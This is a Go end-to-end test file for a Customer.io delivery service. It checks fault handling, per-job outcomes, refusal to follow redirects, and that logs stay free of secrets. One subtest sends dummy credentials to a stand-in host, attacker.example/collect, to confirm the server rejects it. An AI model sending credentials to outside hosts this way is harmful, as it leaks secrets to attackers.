package main

import (
	"context"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	ciotransformerv1 "github.com/cio-transformer/cio-transformer/gen/ciotransformer/v1"
	"github.com/cio-transformer/cio-transformer/internal/fakecio"
	"google.golang.org/grpc"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/structpb"
)

// Credentials and personal data of the delivery tests, which the server's
// logs must never show.
const (
	e2eAPIKey = "e2e-secret-api-key"
	e2eAuth   = "Basic c2l0ZTplMmUtc2VjcmV0LWFwaS1rZXk=" // site:e2e-secret-api-key
	e2eTrait  = "e2e-private-trait"
)

// startFaultyCIO starts fake, a fake Customer.io answering as
// deliveryFaults say (404 to other keys), and other, the fake its redirect
// leads to, which answers 200; both close when the test ends.
func startFaultyCIO(t *testing.T) (fake, other *fakecio.Server) {
	other = fakecio.Start(nil, fakecio.Response{Status: 200})
	t.Cleanup(other.Close)
	fake = fakecio.Start(deliveryFaults(other.URL+"/api/v2/batch"), fakecio.Response{Status: 404})
	t.Cleanup(fake.Close)
	return fake, other
}

// deliveryFaults are the fake Customer.io's answers, by key.
func deliveryFaults(other string) map[string]fakecio.Response {
	return map[string]fakecio.Response{
		"ok":           {Status: 200, Body: `{}`},
		"partial":      {Status: 207, Body: `{"errors":[{"batch_index":1,"reason":"invalid","field":"attributes.plan","message":"too long"}]}`},
		"out-of-range": {Status: 207, Body: `{"errors":[{"batch_index":9,"reason":"invalid"}]}`},
		"throttled":    {Status: 429, Body: `{"meta":{"error":"rate limited"}}`, Header: map[string]string{"Retry-After": "30"}},
		"500":          {Status: 500, Body: `{"meta":{"error":"internal"}}`},
		"503":          {Status: 503, Body: `unavailable`},
		"timeout":      {Hang: true},
		"reset":        {Reset: true},
		"10mb":         {Status: 207, BodyBytes: 10 << 20},
		"redirect":     {Status: 301, Header: map[string]string{"Location": other}},
		"unauthorized": {Status: 401, Body: `{"meta":{"error":"unauthorized"}}`},
	}
}

// deliveryCase is one fault case and the outcome every job must get.
type deliveryCase struct {
	key        string
	status     int32
	jobStatus  []int32
	errorType  string
	retryAfter time.Duration
}

var deliveryCases = []deliveryCase{
	{key: "ok", status: 200, jobStatus: []int32{200, 200, 200}},
	{key: "partial", status: 207, jobStatus: []int32{200, 400, 200}},
	{key: "out-of-range", status: 207, jobStatus: []int32{200, 200, 200}},
	{key: "throttled", status: 429, jobStatus: []int32{429, 429, 429}, errorType: "throttled", retryAfter: 30 * time.Second},
	{key: "500", status: 500, jobStatus: []int32{500, 500, 500}, errorType: "retryable"},
	{key: "503", status: 503, jobStatus: []int32{503, 503, 503}, errorType: "retryable"},
	{key: "timeout", status: 500, jobStatus: []int32{500, 500, 500}, errorType: "retryable"},
	{key: "reset", status: 500, jobStatus: []int32{500, 500, 500}, errorType: "retryable"},
	{key: "10mb", status: 500, jobStatus: []int32{500, 500, 500}, errorType: "retryable"},
	{key: "redirect", status: 301, jobStatus: []int32{301, 301, 301}, errorType: "aborted"},
	{key: "unauthorized", status: 401, jobStatus: []int32{401, 401, 401}, errorType: "aborted"},
}

// deliveryJobs are three jobs whose ids start at first.
func deliveryJobs(t *testing.T, first uint64) []*ciotransformerv1.JobRef {
	t.Helper()
	jobs := make([]*ciotransformerv1.JobRef, 3)
	for i := range jobs {
		md, err := structpb.NewStruct(map[string]any{"jobId": float64(first + uint64(i))})
		if err != nil {
			t.Fatal(err)
		}
		jobs[i] = &ciotransformerv1.JobRef{JobId: first + uint64(i), Metadata: md}
	}
	return jobs
}

// batchOfThree is a /api/v2/batch request selecting the fake's answer.
func batchOfThree(key string) *ciotransformerv1.TrackRequest {
	obj := `{"type":"person","action":"identify","identifiers":{"id":"u"},"attributes":{"t":"` + e2eTrait + `"}}`
	return &ciotransformerv1.TrackRequest{
		Method: "POST", Url: "https://track.customer.io/api/v2/batch", EndpointPath: "v2/batch",
		Headers: map[string]string{"Authorization": e2eAuth, "Content-Type": "application/json", fakecio.KeyHeader: key},
		Body:    `{"batch":[` + obj + "," + obj + "," + obj + `]}`,
	}
}

// checkDelivery checks that d answers every job of jobs exactly once, in
// order, with the case's outcome.
func checkDelivery(t *testing.T, c deliveryCase, jobs []*ciotransformerv1.JobRef, d *ciotransformerv1.Delivery) {
	t.Helper()
	if d.GetStatus() != c.status || d.GetErrorType() != c.errorType || d.GetRetryAfter().AsDuration() != c.retryAfter {
		t.Errorf("%s: status %d, error type %q, retry after %s; want %d, %q, %s", c.key,
			d.GetStatus(), d.GetErrorType(), d.GetRetryAfter().AsDuration(), c.status, c.errorType, c.retryAfter)
	}
	if len(d.GetJobs()) != len(jobs) {
		t.Fatalf("%s: %d outcomes for %d jobs", c.key, len(d.GetJobs()), len(jobs))
	}
	for i, j := range d.GetJobs() {
		if j.GetJob().GetJobId() != jobs[i].GetJobId() {
			t.Errorf("%s: outcome %d is for job %d, want %d", c.key, i, j.GetJob().GetJobId(), jobs[i].GetJobId())
		}
		if j.GetStatusCode() != c.jobStatus[i] || j.GetError() == "" {
			t.Errorf("%s: job %d: %d %q, want status %d", c.key, i, j.GetStatusCode(), j.GetError(), c.jobStatus[i])
		}
	}
}

// TestDeliveryE2E runs every fault case through the real binary over gRPC,
// with Deliver and with one pipelined DeliverBatch stream, and checks that
// the logs show no credential or payload.
func TestDeliveryE2E(t *testing.T) {
	t.Parallel()
	fake, other := startFaultyCIO(t)
	srv := startServer(t, "--delivery-us-url", fake.URL, "--delivery-eu-url", fake.URL,
		"--delivery-timeout", "1s", "--log-level", "debug")
	cc, err := grpc.NewClient(srv.addr, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cc.Close() })
	client := ciotransformerv1.NewTransformerServiceClient(cc)

	t.Run("Deliver", func(t *testing.T) {
		for i, c := range deliveryCases {
			ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
			jobs := deliveryJobs(t, uint64(100*i+1))
			resp, err := client.Deliver(ctx, &ciotransformerv1.DeliverRequest{Request: batchOfThree(c.key), Jobs: jobs})
			cancel()
			if err != nil {
				t.Fatalf("%s: %v", c.key, err)
			}
			checkDelivery(t, c, jobs, resp.GetDelivery())
		}
	})

	t.Run("DeliverBatch", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		stream, err := client.DeliverBatch(ctx)
		if err != nil {
			t.Fatal(err)
		}
		sent := map[uint64][]*ciotransformerv1.JobRef{}
		// Every request message is sent before any answer is read.
		for i, c := range deliveryCases {
			jobs := deliveryJobs(t, uint64(1000*i+1))
			sent[uint64(i)] = jobs
			if err := stream.Send(&ciotransformerv1.DeliverBatchRequest{RequestId: uint64(i), Request: batchOfThree(c.key), Jobs: jobs}); err != nil {
				t.Fatal(err)
			}
		}
		if err := stream.CloseSend(); err != nil {
			t.Fatal(err)
		}
		answered := map[uint64]bool{}
		for i := 0; ; i++ {
			resp, err := stream.Recv()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			if resp.GetRequestId() != uint64(i) {
				t.Fatalf("response %d answers request %d: out of order", i, resp.GetRequestId())
			}
			answered[resp.GetRequestId()] = true
			checkDelivery(t, deliveryCases[i], sent[uint64(i)], resp.GetDelivery())
		}
		if len(answered) != len(deliveryCases) {
			t.Errorf("%d of %d request messages answered", len(answered), len(deliveryCases))
		}
	})

	t.Run("envelope", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
		defer cancel()
		_, err := client.Deliver(ctx, &ciotransformerv1.DeliverRequest{Request: batchOfThree("ok")})
		if status.Code(err) != codes.InvalidArgument {
			t.Errorf("Deliver without jobs: %v, want InvalidArgument", err)
		}
		resp, err := client.Deliver(ctx, &ciotransformerv1.DeliverRequest{
			Request: &ciotransformerv1.TrackRequest{Method: "POST", Url: "https://attacker.example/collect", Headers: map[string]string{"Authorization": e2eAuth}},
			Jobs:    deliveryJobs(t, 1),
		})
		if err != nil || resp.GetDelivery().GetStatus() != 400 || len(resp.GetDelivery().GetJobs()) != 3 {
			t.Errorf("Deliver to another host: %v %v, want a 400 for each job", resp, err)
		}
	})

	checkDeliveries(t, fake, other, srv, `"grpc.method":"DeliverBatch"`)
}

// checkDeliveries checks what the deliveries of an end-to-end test left
// behind: no redirect followed (to other), the caller's Authorization sent
// to the fake, and server logs holding no secret, trait, path or host but
// the "delivery failed" lines, with want in them.
func checkDeliveries(t *testing.T, fake, other *fakecio.Server, srv *runningServer, want string) {
	t.Helper()
	if n := len(other.Requests()); n != 0 {
		t.Errorf("the redirect was followed: %d requests", n)
	}
	for _, r := range fake.Requests() {
		if r.Header.Get("Authorization") != e2eAuth {
			t.Errorf("the fake got Authorization %q", r.Header.Get("Authorization"))
		}
	}
	logs := srv.logs.String()
	for _, secret := range []string{e2eAPIKey, e2eAuth, strings.TrimPrefix(e2eAuth, "Basic "), e2eTrait, "/api/v2/batch", "track.customer.io"} {
		if strings.Contains(logs, secret) {
			t.Errorf("server logs contain %q:\n%s", secret, logs)
		}
	}
	if !strings.Contains(logs, `"msg":"delivery failed"`) || !strings.Contains(logs, want) {
		t.Errorf("logs lack the delivery lines:\n%s", logs)
	}
}
